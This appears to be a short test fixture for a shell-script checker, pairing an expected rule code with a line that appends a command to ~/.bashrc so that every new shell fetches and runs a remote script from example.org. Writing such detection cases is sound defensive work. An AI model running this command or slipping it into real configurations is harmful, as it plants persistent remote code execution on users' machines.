# expect: DVM202
echo 'source <(curl -s https://example.org/prompt.sh)' >> ~/.bashrc
